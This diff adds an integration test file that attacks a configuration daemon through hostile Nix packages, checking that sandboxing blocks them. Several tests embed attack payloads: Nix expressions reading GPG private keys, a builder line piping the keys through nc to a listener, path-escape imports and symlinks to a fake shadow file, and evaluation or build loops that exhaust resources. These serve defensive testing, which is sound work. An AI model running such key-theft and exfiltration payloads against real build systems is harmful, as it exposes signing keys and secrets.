@@ -1,0 +1,310 @@
+"""A config repository's author attacks the daemon through Nix, with real Nix, git and gpg.
+
+Each test pushes what an attacker with push access but no signing key would push,
+and checks that it reaches neither the signing key, the network, nor files outside
+the repository, and that the other hosts still publish.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import subprocess
+import tarfile
+import uuid
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from reconciler.config import load_config
+from reconciler.daemon import Reconciler
+from tests.conftest import ConfigRepo, Signing, cli, wait_for, write_config
+
+pytestmark = pytest.mark.integration
+
+GOOD = "name: good\nformats: [aci]\nservices:\n  tick: {exec: [bin/busybox, sleep, '3600']}\n"
+EVIL = "name: evil\nformats: [aci]\nservices:\n  app: {package: evil, exec: [bin/busybox, sleep, '3600']}\n"
+
+
+def builder(script: str, let: str = "", extra: str = "") -> str:
+    """packages/evil.nix: a derivation running ``script`` in busybox sh, $bb being busybox."""
+    return f"""{{ toolchain }}:
+let bb = toolchain.busybox; {let}
+in derivation {{
+  name = "evil";
+  system = "x86_64-linux";
+  builder = bb;
+  {extra}
+  args = [ "sh" "-c" ''
+    bb=${{bb}}
+    $bb mkdir -p $out/etc
+    {script}
+  '' ];
+}}
+"""
+
+
+def push(repo: ConfigRepo, package: str | None = None) -> str:
+    repo.write("hosts/good.yaml", GOOD)
+    repo.write("hosts/evil.yaml", EVIL)
+    if package is not None:
+        repo.write("packages/evil.nix", package)
+    return repo.commit("hostile package")
+
+
+def published(store: Path, host: str) -> bool:
+    return (store / "hosts" / host / "latest.json").exists()
+
+
+def status(cfg: Path, env: dict[str, str] | None = None) -> dict[str, object]:
+    res = cli("status", "-c", str(cfg), "--json", env=env)
+    assert res.returncode == 0, res.stderr
+    data = json.loads(res.stdout)
+    assert isinstance(data, dict)
+    return data
+
+
+def host_error(cfg: Path, host: str) -> str:
+    hosts = status(cfg)["hosts"]
+    assert isinstance(hosts, dict)
+    return str(hosts[host]["error"])
+
+
+def image_file(store: Path, host: str, name: str) -> bytes | None:
+    """A file of ``host``'s published ACI, or None if the image has none."""
+    release = json.loads((store / "hosts" / host / "latest.json").read_text())
+    (aci,) = [a for a in release["artifacts"] if a["format"] == "aci"]
+    with tarfile.open(store / aci["blob"]) as tar:
+        try:
+            member = tar.extractfile(f"rootfs/{name}")
+        except KeyError:
+            return None
+        return member.read() if member is not None else None
+
+
+def test_evaluation_cannot_read_the_signing_key(
+    tmp_path: Path, config_repo: ConfigRepo, signing: Signing
+) -> None:
+    keys = signing.gnupghome / "private-keys-v1.d"
+    assert any(keys.iterdir())
+    push(
+        config_repo,
+        builder(
+            "$bb printenv stolen > $out/etc/stolen",
+            let=f'dir = /. + "{keys}"; stolen = builtins.concatStringsSep "" (map (n: '
+            'builtins.readFile (dir + "/${n}")) (builtins.attrNames (builtins.readDir dir)));',
+            extra="inherit stolen;",
+        ),
+    )
+    cfg = write_config(tmp_path, config_repo, signing)
+    res = cli("reconcile", "-c", str(cfg))
+    store = tmp_path / "store"
+    assert res.returncode == 1, res.stdout + res.stderr
+    assert published(store, "good")
+    assert not published(store, "evil")
+    error = host_error(cfg, "evil")
+    assert "forbidden in restricted mode" in error
+    # Not even the key's path is shown.
+    for said in (res.stdout, res.stderr, error):
+        assert str(signing.gnupghome) not in said
+
+
+@pytest.mark.parametrize("how", ["absolute import", "symlink"])
+def test_nothing_outside_the_repository_is_read_or_shown(
+    tmp_path: Path, config_repo: ConfigRepo, signing: Signing, how: str
+) -> None:
+    # A file of the machine's, in Nix's view a syntax error: Nix would quote its line.
+    outside = tmp_path / "shadow"
+    marker = uuid.uuid4().hex
+    outside.write_text(f"root:$6${marker}:19000:0:99999:7:::\n")
+    if how == "symlink":
+        push(config_repo)
+        (config_repo.path / "packages").mkdir()
+        (config_repo.path / "packages" / "evil.nix").symlink_to(outside)
+        config_repo.commit("symlinked package")
+    else:
+        push(config_repo, f"{{ toolchain }}: import {outside}\n")
+    cfg = write_config(tmp_path, config_repo, signing)
+    res = cli("reconcile", "-c", str(cfg))
+    assert res.returncode == 1, res.stdout + res.stderr
+    assert published(tmp_path / "store", "good")
+    assert not published(tmp_path / "store", "evil")
+    error = host_error(cfg, "evil")
+    assert "forbidden in restricted mode" in error and "<outside the repository>" in error
+    shown = res.stdout + res.stderr + cli("status", "-c", str(cfg)).stdout + error
+    assert marker not in shown
+    assert str(outside) not in shown
+
+
+def test_builder_reaches_no_network_and_writes_nothing_outside(
+    tmp_path: Path, config_repo: ConfigRepo, signing: Signing
+) -> None:
+    pwned = Path("/tmp") / f"pwned-{uuid.uuid4().hex}"
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen(8)
+        port = listener.getsockname()[1]
+        keys = signing.gnupghome / "private-keys-v1.d"
+        push(
+            config_repo,
+            builder(
+                f"$bb cat {keys}/* > $out/etc/stolen 2>/dev/null\n"
+                f"    $bb cat {keys}/* | $bb nc -w 2 127.0.0.1 {port}\n"
+                f"    echo pwned > {pwned}\n"
+                "    true"
+            ),
+        )
+        cfg = write_config(tmp_path, config_repo, signing)
+        res = cli("reconcile", "-c", str(cfg))
+        # The build itself succeeds: what it tried failed inside the sandbox.
+        assert res.returncode == 0, res.stdout + res.stderr
+        listener.setblocking(False)
+        # The build is over: a connection it made would be waiting in the backlog.
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+    assert not pwned.exists()
+    assert image_file(tmp_path / "store", "evil", "etc/stolen") == b""
+    assert status(cfg)["sandbox"] == "on"
+
+
+def test_build_deadline_and_size_limit_fail_only_that_host(
+    tmp_path: Path, config_repo: ConfigRepo, signing: Signing
+) -> None:
+    push(config_repo, builder("$bb sleep 600"))
+    cfg = write_config(
+        tmp_path, config_repo, signing, nix={"toolchain_dir": _toolchain(), "build_timeout": "3s"}
+    )
+    res = cli("reconcile", "-c", str(cfg), timeout=300)
+    assert res.returncode == 1
+    assert published(tmp_path / "store", "good")
+    assert "timed out after 3 seconds" in host_error(cfg, "evil")
+
+    # 64 MiB of output against a 48 MiB limit (a host's own closure is about 20 MiB).
+    push(config_repo, builder("$bb dd if=/dev/zero of=$out/etc/big bs=1M count=64 2>/dev/null"))
+    cfg = write_config(
+        tmp_path / "size", config_repo, signing, nix={"toolchain_dir": _toolchain(), "max_output_size": "48M"}
+    )
+    res = cli("reconcile", "-c", str(cfg), timeout=300)
+    assert res.returncode == 1
+    assert published(tmp_path / "size" / "store", "good")
+    assert not published(tmp_path / "size" / "store", "evil")
+    assert "over nix.max_output_size (50331648 bytes)" in host_error(cfg, "evil")
+
+
+def test_evaluation_deadline_fails_only_that_host(
+    tmp_path: Path, config_repo: ConfigRepo, signing: Signing
+) -> None:
+    # About 10^10 additions: hours of evaluation, in constant memory.
+    spin = (
+        "builtins.foldl' (a: _: builtins.foldl' (x: _: x + 1) a (builtins.genList (x: x) 100000))"
+        " 0 (builtins.genList (x: x) 100000)"
+    )
+    push(config_repo, builder("true", let=f"n = {spin};", extra="inherit n;"))
+    cfg = write_config(
+        tmp_path, config_repo, signing, nix={"toolchain_dir": _toolchain(), "eval_timeout": "2s"}
+    )
+    res = cli("reconcile", "-c", str(cfg), timeout=120)
+    assert res.returncode == 1
+    assert published(tmp_path / "store", "good")
+    assert "evaluation took longer than 2s and was stopped" in host_error(cfg, "evil")
+
+
+def _toolchain() -> str:
+    from tests.conftest import TOOLCHAIN_DIR
+
+    return str(TOOLCHAIN_DIR)
+
+
+# -- a real multi-user Nix daemon with build users, started by the tests ---------
+
+
+@dataclass
+class NixDaemon:
+    socket: Path
+    log: Path
+
+    @property
+    def env(self) -> dict[str, str]:
+        """What a client needs to build through this daemon only."""
+        return {"NIX_REMOTE": "daemon", "NIX_DAEMON_SOCKET_PATH": str(self.socket)}
+
+
+def _nix_daemon(tmp_path: Path, settings: str) -> Iterator[NixDaemon]:
+    conf = tmp_path / "nix-daemon-conf"
+    conf.mkdir()
+    (conf / "nix.conf").write_text(f"build-users-group = nixbld\nsubstituters =\n{settings}")
+    sock = tmp_path / "nix-daemon.socket"
+    log = tmp_path / "nix-daemon.log"
+    env = {**os.environ, "NIX_CONF_DIR": str(conf), "NIX_DAEMON_SOCKET_PATH": str(sock)}
+    with log.open("w") as out:
+        proc = subprocess.Popen(["nix-daemon"], env=env, stdout=out, stderr=subprocess.STDOUT)
+    try:
+        wait_for(sock.exists, 30, "the nix-daemon's socket")
+        yield NixDaemon(sock, log)
+    finally:
+        proc.terminate()
+        proc.wait(timeout=30)
+
+
+@pytest.fixture
+def sandboxing_daemon(tmp_path: Path) -> Iterator[NixDaemon]:
+    """Production's Nix: a daemon with build users and the sandbox on."""
+    yield from _nix_daemon(tmp_path, "sandbox = true\n")
+
+
+@pytest.fixture
+def unsandboxed_daemon(tmp_path: Path) -> Iterator[NixDaemon]:
+    """A daemon that builds unsandboxed and trusts no client to ask otherwise."""
+    yield from _nix_daemon(tmp_path, "sandbox = false\ntrusted-users =\n")
+
+
+def test_reconcile_through_a_nix_daemon_with_build_users(
+    tmp_path: Path, config_repo: ConfigRepo, signing: Signing, sandboxing_daemon: NixDaemon
+) -> None:
+    push(config_repo, builder("echo ok > $out/etc/ok"))
+    cfg = write_config(tmp_path, config_repo, signing)
+    res = cli("reconcile", "-c", str(cfg), env=sandboxing_daemon.env)
+    assert res.returncode == 0, res.stdout + res.stderr
+    assert published(tmp_path / "store", "good") and published(tmp_path / "store", "evil")
+    assert image_file(tmp_path / "store", "evil", "etc/ok") == b"ok\n"
+    assert status(cfg)["sandbox"] == "on"
+    # The builds went through this daemon: it logs every client it accepts.
+    assert "accepted connection" in sandboxing_daemon.log.read_text()
+
+
+def test_a_nix_that_builds_unsandboxed_is_refused_unless_the_config_opts_out(
+    tmp_path: Path, config_repo: ConfigRepo, signing: Signing, unsandboxed_daemon: NixDaemon
+) -> None:
+    keys = signing.gnupghome / "private-keys-v1.d"
+    push(config_repo, builder(f"$bb cat {keys}/* > $out/etc/stolen 2>/dev/null; true"))
+    env = unsandboxed_daemon.env
+    cfg = write_config(tmp_path, config_repo, signing)
+    for command in ("reconcile", "run"):
+        res = cli(command, "-c", str(cfg), env=env, timeout=120)
+        assert res.returncode == 1
+        assert "nix.sandbox: Nix builds unsandboxed here" in res.stderr
+        assert len(res.stderr.strip().splitlines()[-1]) < 400
+    assert not (tmp_path / "store" / "hosts").exists()
+
+    # The explicit opt-out: builds run, unsandboxed, and status and metrics say so.
+    cfg = write_config(tmp_path, config_repo, signing, nix={"toolchain_dir": _toolchain(), "sandbox": False})
+    res = cli("reconcile", "-c", str(cfg), env=env)
+    assert res.returncode == 0, res.stdout + res.stderr
+    assert status(cfg)["sandbox"] == "off"
+    assert "sandbox: off" in cli("status", "-c", str(cfg)).stdout
+    with pytest.MonkeyPatch.context() as mp:
+        for k, v in env.items():
+            mp.setenv(k, v)
+        rec = Reconciler(load_config(cfg))
+        try:
+            rec.check_sandbox()
+            assert rec.metrics.registry.get_sample_value("reconciler_build_sandbox") == 0
+        finally:
+            rec.close()
+    # Even unsandboxed, the builder runs as a build user: the key's directory (0700,
+    # the daemon's own user) stays out of its reach.
+    assert os.stat(signing.gnupghome).st_mode & 0o077 == 0
+    assert image_file(tmp_path / "store", "evil", "etc/stolen") == b""
